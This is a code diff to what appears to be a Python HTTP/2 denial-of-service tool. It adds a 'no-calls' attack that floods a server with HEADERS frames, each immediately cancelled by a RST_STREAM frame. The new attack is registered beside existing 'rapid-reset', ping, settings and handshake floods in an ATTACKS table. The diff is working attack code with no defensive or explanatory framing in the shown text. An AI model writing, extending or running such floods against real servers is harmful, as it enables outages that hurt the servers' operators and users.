@@ -21,7 +21,8 @@ from pathlib import Path
 PATIENCE_SECONDS = 5.0
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RESET, SETTINGS, PING, NO_KIND = 0, 1, 3, 4, 6, 0x77
-END_HEADERS, ACK = 4, 1
+END_HEADERS, END_STREAM, ACK = 4, 1, 1
+METHOD_GET = b"\x82"  # In HPACK's table.
 HEAD = 9  # Bytes of a frame's.
 CANCEL = bytes([0, 0, 0, 8])
 WAITING_JOBS = 100
@@ -146,6 +147,18 @@ def rapid_reset(target: Target) -> None:
     )
 
 
+def no_calls(target: Target) -> None:
+    """Streams whose headers are refused before they are calls."""
+    flood(
+        target,
+        in_pieces(
+            frame(HEADERS, END_HEADERS | END_STREAM, stream, METHOD_GET)
+            + frame(RESET, 0, stream, CANCEL)
+            for stream in range(1, 2 * STREAMS_A_TURN, 2)
+        ),
+    )
+
+
 def endless(target: Target, each: bytes, answers: bool) -> None:
     """The same frame for as long as it is taken; who leaves answers unread is not read from."""
     piece = each * (RECORD // len(each))
@@ -259,6 +272,7 @@ def handshakes(target: Target) -> None:
 
 ATTACKS: dict[str, Callable[[Target], None]] = {
     "rapid-reset": rapid_reset,
+    "no-calls": no_calls,
     "pings": pings,
     "settings": settings,
     "no-frames": no_frames,
